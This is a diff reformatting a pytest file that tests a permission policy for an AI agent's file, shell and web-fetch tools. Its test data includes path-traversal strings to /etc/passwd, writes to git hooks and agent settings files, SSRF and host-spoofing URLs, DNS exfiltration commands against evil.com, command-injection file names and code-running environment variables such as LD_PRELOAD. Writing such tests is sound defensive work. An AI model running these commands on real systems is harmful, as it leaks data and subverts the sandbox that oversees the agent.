@@ -25,7 +25,9 @@ def test_f01_a_neighbour_with_the_same_prefix_is_outside(tool):
     assert call(tool, OPEN, path=f"{ROOT}/x").effect == "allow"
 
 
-@pytest.mark.parametrize("path", ["../../etc/passwd", "a/../../x", "./a//..//../x", "/etc/passwd", ".."])
+@pytest.mark.parametrize(
+    "path", ["../../etc/passwd", "a/../../x", "./a//..//../x", "/etc/passwd", ".."]
+)
 def test_f02_paths_that_climb_out(path):
     assert call("read_file", OPEN, path=path).effect == "deny"
     assert call("write_file", OPEN, path=path).effect == "deny"
@@ -41,12 +43,16 @@ def test_f03_a_link_to_a_secret_is_resolved_then_matched(tmp_path):
     resolved = os.path.realpath(root / "notes.txt")
     facts = CallFacts(args={}, category="read", read_only=True, paths=(resolved,))
     assert evaluate("read_file", facts, under).rule == "safety:secret"
-    assert evaluate("read_file", facts, policy(rule("*"), root=str(root), home="/x")).effect == "deny"
+    assert (
+        evaluate("read_file", facts, policy(rule("*"), root=str(root), home="/x")).effect == "deny"
+    )
 
 
 PROTECTED = [
-    ".git/hooks/pre-commit", ".git/config", ".bashrc", ".zshenv", ".profile", ".mcp.json", ".bridle/config.yaml",
-    "harness.yaml", ".claude/settings.json", ".claude/settings.local.json", ".bridle/local/config.yaml",
+    ".git/hooks/pre-commit", ".git/config", ".bashrc", ".zshenv", ".profile", ".mcp.json",
+    ".bridle/config.yaml",
+    "harness.yaml", ".claude/settings.json", ".claude/settings.local.json",
+    ".bridle/local/config.yaml",
     "sub/.git/hooks/x", ".GIT/Hooks/pre-commit", ".git/modules/a/hooks/x", ".gitmodules", ".envrc",
 ]  # fmt: skip
 
@@ -57,9 +63,12 @@ def test_f07_protected_files_are_always_asked(path):
         for tool in ("write_file", "edit_file", "multi_edit"):
             assert call(tool, under, path=path).effect == "ask"
         quoted = shlex.quote(path)
-        for command in (f"echo x > {quoted}", f"cp evil {quoted}", f"tee -a {quoted}", f"mv a {quoted}",
-                        f"ln -s a {quoted}", f"sed -i s/a/b/ {quoted}", f"python3 w.py {quoted}", f"rm {quoted}",
-                        f"git checkout {quoted}", f"dd if=a of={quoted}", f"bash -c 'echo x > {quoted}'"):  # fmt: skip
+        for command in (f"echo x > {quoted}", f"cp evil {quoted}", f"tee -a {quoted}",
+        f"mv a {quoted}",
+                        f"ln -s a {quoted}", f"sed -i s/a/b/ {quoted}", f"python3 w.py {quoted}",
+                        f"rm {quoted}",
+                        f"git checkout {quoted}", f"dd if=a of={quoted}",
+                        f"bash -c 'echo x > {quoted}'"):  # fmt: skip
             assert bash(command, OPEN).effect == "ask", command
         for command in (f"cat {quoted}", f"ls {quoted}", f"grep x {quoted}", f"git diff {quoted}"):
             assert bash(command, OPEN).effect == "allow", command
@@ -74,8 +83,10 @@ def test_f07_git_config_writes_a_protected_file():
 @pytest.mark.parametrize(
     "command",
     [
-        "cd .git && echo x > hooks/pre-commit", "cd .git/hooks; cp /tmp/x pre-commit", "(cd .git; echo x >config)",
-        "cd $X && echo x > hooks/pre-commit", "pushd .git; echo x > hooks/pre-push", "cd .git && tee hooks/post-commit",
+        "cd .git && echo x > hooks/pre-commit", "cd .git/hooks; cp /tmp/x pre-commit",
+        "(cd .git; echo x >config)",
+        "cd $X && echo x > hooks/pre-commit", "pushd .git; echo x > hooks/pre-push",
+        "cd .git && tee hooks/post-commit",
         "cd a && cd ../.git && echo x > config",
     ],
 )  # fmt: skip
@@ -115,21 +126,31 @@ def test_n01_a_host_is_not_a_prefix():
     assert not url_allowed("https://b.a.io", ("a.io",))
     assert url_allowed("https://b.a.io", ("*.a.io",))
     assert not url_allowed("https://a.io", ("*.a.io",))
-    assert call("web_fetch", policy(rule("web_fetch"), hosts=("a.io",)), url="https://a.io.evil.com").effect == "deny"
+    assert (
+        call(
+            "web_fetch", policy(rule("web_fetch"), hosts=("a.io",)), url="https://a.io.evil.com"
+        ).effect
+        == "deny"
+    )
 
 
 @pytest.mark.parametrize(
     "url",
     [
-        "https://good.com@evil.com/", "http://0x7f000001/", "http://[::ffff:127.0.0.1]/", "http://2130706433/",
-        "http://0177.0.0.1/", "http://127.1/", "http://good.com\\@evil.com/", "http://good.com%00.evil.com/",
-        "file:///etc/passwd", "http:///x", "http://good.com:99999/", "javascript:x", "http://evil.com#@good.com",
+        "https://good.com@evil.com/", "http://0x7f000001/", "http://[::ffff:127.0.0.1]/",
+        "http://2130706433/",
+        "http://0177.0.0.1/", "http://127.1/", "http://good.com\\@evil.com/",
+        "http://good.com%00.evil.com/",
+        "file:///etc/passwd", "http:///x", "http://good.com:99999/", "javascript:x",
+        "http://evil.com#@good.com",
         "http://good.com .evil.com/", "http://ɢood.com/",
     ],
 )  # fmt: skip
 def test_n02_odd_writings_of_hosts_are_not_allowed(url):
     assert not url_allowed(url, ("good.com",))
-    assert call("web_fetch", policy(rule("web_fetch"), hosts=("good.com",)), url=url).effect == "deny"
+    assert (
+        call("web_fetch", policy(rule("web_fetch"), hosts=("good.com",)), url=url).effect == "deny"
+    )
 
 
 def test_n02_writings_of_the_same_host_are_one():
@@ -150,7 +171,9 @@ def test_n04_a_redirection_is_asked_again():
     assert [url_allowed(hop, allowed) for hop in hops] == [True, False]
 
 
-@pytest.mark.parametrize("command", ["ping $(cat s).evil.com", "nslookup x.evil.com", "dig $(id).evil.com", "host a.b"])
+@pytest.mark.parametrize(
+    "command", ["ping $(cat s).evil.com", "nslookup x.evil.com", "dig $(id).evil.com", "host a.b"]
+)
 def test_n05_lookups_are_not_reads(command):
     for profile in ("strict", "balanced", "auto-edit"):
         assert bash(command, policy(*prefixes("cat", "id"), profile=profile)).effect == "ask"
@@ -164,7 +187,10 @@ def test_t06_an_argument_that_begins_with_dashes_stays_an_argument():
     assert call("read_file", policy(), path="--help").effect == "allow"
 
 
-@pytest.mark.parametrize("name", ["$(touch m)", "`touch m`", "a; touch m", "a\ntouch m", "x'; touch m; '", "--upload-pack=x"])
+@pytest.mark.parametrize(
+    "name",
+    ["$(touch m)", "`touch m`", "a; touch m", "a\ntouch m", "x'; touch m; '", "--upload-pack=x"],
+)
 def test_t09_a_title_with_code_is_one_word(name):
     found = analyse(f"git checkout -- {shlex.quote(name)}")
     assert not found.unnamed
@@ -188,7 +214,12 @@ def test_t11_a_child_is_never_wider_than_its_parent():
     assert bash("make", child).effect == "ask"
     assert bash("rm x", child).effect == "deny"
     assert call("read_file", child, path="/etc/passwd").effect == "deny"
-    assert evaluate("write_file", CallFacts(args={}, category="edit", paths=("/x",)), child, grants).effect == "deny"
+    assert (
+        evaluate(
+            "write_file", CallFacts(args={}, category="edit", paths=("/x",)), child, grants
+        ).effect
+        == "deny"
+    )
     assert child.depth == 1
     grandchild = child_policy(child, policy(rule("*"), yolo=True))
     assert bash("make", grandchild).effect == "ask"
@@ -197,12 +228,20 @@ def test_t11_a_child_is_never_wider_than_its_parent():
 
 @pytest.mark.parametrize(
     "variable",
-    ["LD_PRELOAD=/x.so", "GIT_EXTERNAL_DIFF=x", "GIT_SSH_COMMAND=x", "PAGER=x", "BASH_ENV=x", "PYTHONSTARTUP=x",
-     "NODE_OPTIONS=--require=x", "EDITOR=x", "LESSOPEN='|x'", "npm_config_script_shell=x", "PERL5OPT=-Mx", "PATH=/x",
-     "PROMPT_COMMAND=x", "XDG_CONFIG_HOME=/x", "PS4='$(x)'", "RIPGREP_CONFIG_PATH=x", "ENV=x", "HOME=/x"],
+    ["LD_PRELOAD=/x.so", "GIT_EXTERNAL_DIFF=x", "GIT_SSH_COMMAND=x", "PAGER=x", "BASH_ENV=x",
+    "PYTHONSTARTUP=x",
+     "NODE_OPTIONS=--require=x", "EDITOR=x", "LESSOPEN='|x'", "npm_config_script_shell=x",
+     "PERL5OPT=-Mx", "PATH=/x",
+     "PROMPT_COMMAND=x", "XDG_CONFIG_HOME=/x", "PS4='$(x)'", "RIPGREP_CONFIG_PATH=x", "ENV=x",
+     "HOME=/x"],
 )  # fmt: skip
 def test_t12_variables_that_run_things_are_asked(variable):
     under = policy(*prefixes("git diff", "npm test", "ls", "env"))
-    for command in (f"{variable} git diff", f"export {variable}; npm test", f"env {variable} ls", f"{variable}; git diff"):
+    for command in (
+        f"{variable} git diff",
+        f"export {variable}; npm test",
+        f"env {variable} ls",
+        f"{variable}; git diff",
+    ):
         assert bash(command, under).effect == "ask", command
         assert bash(command, policy(rule("bash(rm:*)", "deny"), yolo=True)).effect == "ask", command
